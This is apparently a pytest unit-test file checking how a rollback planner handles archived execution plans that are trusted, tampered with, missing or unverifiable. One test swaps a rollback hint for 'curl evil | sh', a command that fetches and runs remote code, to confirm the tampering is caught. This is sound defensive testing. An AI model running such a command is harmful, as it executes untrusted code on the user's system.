"""The scaffold of a recorded run, with the hints of the plan as it was run."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from typing import TYPE_CHECKING

from hearth.operations import PlanArchive, plan_rollback
from hearth.recorder import ExecutionObserver
from tests.unit.operations._steps import FAIL, WRITE

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from hearth.ledger import LedgerHome
    from hearth.operations import Records, RunOutcome


def test_the_plans_hints_are_found_verbatim(run: Callable[..., RunOutcome], records: Records) -> None:
    run(WRITE, FAIL, execution_id="one")
    report = plan_rollback(records, records.find("one"))
    assert report.verdict
    assert report.scaffold.is_rollback_possible
    (hint,) = report.scaffold.rollback_hints
    assert hint.actions == ("rm made.txt",)
    assert hint.risks == ("  kept verbatim  ",)


def kept_path(records: Records, outcome: RunOutcome) -> Path:
    return PlanArchive(records.home).path(outcome.record.started["plan_copy"])


def test_a_changed_copy_of_the_plan_gives_no_hints(run: Callable[..., RunOutcome], records: Records) -> None:
    outcome = run(WRITE, FAIL, execution_id="one")
    path = kept_path(records, outcome)
    path.write_text(path.read_text().replace("rm made.txt", "curl evil | sh"))
    report = plan_rollback(records, records.find("one"))
    assert report.scaffold.rollback_hints == ()
    assert "cannot be trusted" in report.scaffold.warnings[0]
    assert "evil" not in report.scaffold.to_summary()
    assert report.verdict.why == report.plan_problem
    assert not report.holds
    assert report.to_dict()["plan_problem"] == report.plan_problem


def test_a_missing_copy_is_said(run: Callable[..., RunOutcome], records: Records) -> None:
    outcome = run(WRITE, FAIL, execution_id="one")
    kept_path(records, outcome).unlink()
    report = plan_rollback(records, records.find("one"))
    assert report.scaffold.rollback_hints == ()
    assert "is missing" in report.scaffold.warnings[0]
    assert report.verdict  # the record itself holds
    assert not report.holds


def test_a_record_that_does_not_hold_gives_no_hints(
    run: Callable[..., RunOutcome], records: Records, home: LedgerHome
) -> None:
    run(WRITE, FAIL, execution_id="one")
    data = records.ledger.get_bytes("one").replace(b"never-there", b"never-there".upper())
    with closing(sqlite3.connect(home.database)) as connection, connection:
        connection.execute("UPDATE executions SET record = ?", (data,))
    report = plan_rollback(records, records.find("one"))
    assert not report.holds
    assert report.scaffold.rollback_hints == ()
    assert "does not verify" in report.scaffold.warnings[0]


def test_a_secret_in_clear_elsewhere_leaves_the_hints(run: Callable[..., RunOutcome], records: Records) -> None:
    leak = {"name": "Leak", "shell": {"argv": ["true", "--password=hunter2-correct-horse"]}}
    run(WRITE, leak, FAIL, execution_id="one")
    report = plan_rollback(records, records.find("one"))
    assert report.holds
    assert [hint.actions for hint in report.scaffold.rollback_hints] == [("rm made.txt",)]


def test_a_record_without_a_plan_is_said(records: Records) -> None:
    observer = ExecutionObserver("api", "by-hand", live_mode="LIVE")
    with observer.step(0, "first"):
        pass
    observer.mark_failed()
    records.ledger.store(observer.get_execution_record())
    scaffold = plan_rollback(records, records.find("api")).scaffold
    assert "names no kept copy" in scaffold.warnings[0]
